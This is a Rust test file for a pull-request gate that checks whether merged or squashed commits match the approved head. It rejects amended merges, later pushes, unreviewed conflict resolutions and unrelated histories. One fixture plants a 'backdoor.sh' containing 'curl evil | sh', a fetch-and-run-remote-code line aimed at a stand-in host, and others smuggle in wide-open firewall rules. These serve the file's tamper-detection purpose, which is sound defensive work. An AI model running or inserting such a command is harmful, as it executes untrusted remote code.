//! Content equivalence against real repositories: only the clean merge of the approved head
//! counts as what was approved.

use crate::executor_support as support;

use prgate::record::equivalence::{Equivalence, MergeKind, check_content};
use support::{TestRepo, scenario};

fn reason(e: Equivalence) -> String {
    match e {
        Equivalence::Differs { reason } => reason,
        other => panic!("expected Differs, got {other:?}"),
    }
}

#[test]
fn clean_merge_commit_is_equivalent() {
    let r = TestRepo::new();
    let s = scenario(&r);
    let tree = r.clean_merge(s.main, s.head);
    let m = r.commit_tree(&[s.main, s.head], tree, "Merge pull request #42");
    assert_eq!(
        check_content(&r.repo, m, s.head).unwrap(),
        Equivalence::Equivalent {
            kind: MergeKind::MergeCommit
        }
    );
}

#[test]
fn merge_commit_amended_to_change_a_file_differs() {
    let r = TestRepo::new();
    let s = scenario(&r);
    let tree = r.clean_merge(s.main, s.head);
    let merged = r.commit_tree(&[s.main, s.head], tree, "merge");
    // Same parents, but the tree smuggles in an extra rule nobody reviewed.
    let tree = r.tree(
        Some(merged),
        &[(
            "firewall/rules",
            Some("allow 22\nallow 443\nallow 0-65535\n"),
        )],
    );
    let amended = r.commit_tree(&[s.main, s.head], tree, "merge (amended)");
    let why = reason(check_content(&r.repo, amended, s.head).unwrap());
    assert!(
        why.starts_with("merged content differs from what was approved"),
        "{why}"
    );
    assert!(why.contains("firewall/rules"), "{why}");
}

#[test]
fn merge_commit_with_a_deleted_file_differs() {
    let r = TestRepo::new();
    let s = scenario(&r);
    let tree = r.clean_merge(s.main, s.head);
    let merged = r.commit_tree(&[s.main, s.head], tree, "merge");
    let tree = r.tree(Some(merged), &[("README", None)]);
    let m = r.commit_tree(&[s.main, s.head], tree, "merge");
    assert!(reason(check_content(&r.repo, m, s.head).unwrap()).contains("README"));
}

#[test]
fn second_parent_other_than_the_approved_head_differs() {
    let r = TestRepo::new();
    let s = scenario(&r);
    // A later push after the approval: same content plus one more commit.
    let later = r.commit(
        Some(s.head),
        &[("firewall/rules", Some("allow all\n"))],
        "after approval",
    );
    let tree = r.clean_merge(s.main, later);
    let m = r.commit_tree(&[s.main, later], tree, "merge");
    let why = reason(check_content(&r.repo, m, s.head).unwrap());
    assert!(why.contains("second parent"), "{why}");
    // Parents swapped: the approved head is the first parent, not the second.
    let tree = r.clean_merge(s.main, s.head);
    let swapped = r.commit_tree(&[s.head, s.main], tree, "merge");
    assert!(reason(check_content(&r.repo, swapped, s.head).unwrap()).contains("second parent"));
}

#[test]
fn squash_with_the_right_tree_is_equivalent() {
    let r = TestRepo::new();
    let s = scenario(&r);
    let tree = r.clean_merge(s.main, s.head);
    let squash = r.commit_tree(&[s.main], tree, "open 443 (#42)");
    assert_eq!(
        check_content(&r.repo, squash, s.head).unwrap(),
        Equivalence::Equivalent {
            kind: MergeKind::Squash
        }
    );
}

#[test]
fn fast_forward_to_the_approved_head_is_equivalent() {
    let r = TestRepo::new();
    let s = scenario(&r);
    assert!(
        check_content(&r.repo, s.head, s.head)
            .unwrap()
            .is_equivalent()
    );
}

#[test]
fn squash_with_an_extra_change_differs() {
    let r = TestRepo::new();
    let s = scenario(&r);
    let merged = r.clean_merge(s.main, s.head);
    let base_for_tree = r.commit_tree(&[s.main], merged, "tmp");
    let tree = r.tree(
        Some(base_for_tree),
        &[("backdoor.sh", Some("curl evil | sh\n"))],
    );
    let squash = r.commit_tree(&[s.main], tree, "open 443 (#42)");
    let why = reason(check_content(&r.repo, squash, s.head).unwrap());
    assert!(why.contains("backdoor.sh"), "{why}");
}

#[test]
fn squash_missing_the_approved_change_differs() {
    let r = TestRepo::new();
    let s = scenario(&r);
    let squash = r.commit(
        Some(s.main),
        &[("firewall/rules", Some("allow 22\nallow 80\n"))],
        "something else (#42)",
    );
    assert!(
        !check_content(&r.repo, squash, s.head)
            .unwrap()
            .is_equivalent()
    );
}

#[test]
fn conflicting_merge_differs_even_with_a_resolution() {
    let r = TestRepo::new();
    let s = scenario(&r);
    let main = r.commit(
        Some(s.main),
        &[("firewall/rules", Some("deny all\n"))],
        "lock down",
    );
    // Whatever resolution someone chose was never reviewed.
    let tree = r.tree(
        Some(main),
        &[("firewall/rules", Some("allow 22\nallow 443\n"))],
    );
    let m = r.commit_tree(&[main, s.head], tree, "merge with resolution");
    let why = reason(check_content(&r.repo, m, s.head).unwrap());
    assert!(why.contains("conflict"), "{why}");
    assert!(why.contains("firewall/rules"), "{why}");
}

#[test]
fn root_and_octopus_commits_differ() {
    let r = TestRepo::new();
    let s = scenario(&r);
    let root = r.commit(None, &[("x", Some("y"))], "root");
    assert!(reason(check_content(&r.repo, root, s.head).unwrap()).contains("root commit"));
    let other = r.commit(Some(s.base), &[("z", Some("z"))], "other");
    let tree = r.clean_merge(s.main, s.head);
    let octopus = r.commit_tree(&[s.main, s.head, other], tree, "octopus");
    assert!(reason(check_content(&r.repo, octopus, s.head).unwrap()).contains("octopus"));
}

#[test]
fn unrelated_history_differs() {
    let r = TestRepo::new();
    let s = scenario(&r);
    let stranger = r.commit(
        None,
        &[("firewall/rules", Some("allow all\n"))],
        "unrelated root",
    );
    let squash = r.commit(Some(stranger), &[("a", Some("b"))], "squash");
    assert!(reason(check_content(&r.repo, squash, s.head).unwrap()).contains("share no history"));
}

#[test]
fn a_missing_head_is_an_error_not_a_pass() {
    let r = TestRepo::new();
    let s = scenario(&r);
    let missing = git2::Oid::from_str("1234567890123456789012345678901234567890").unwrap();
    assert!(check_content(&r.repo, s.head, missing).is_err());
}
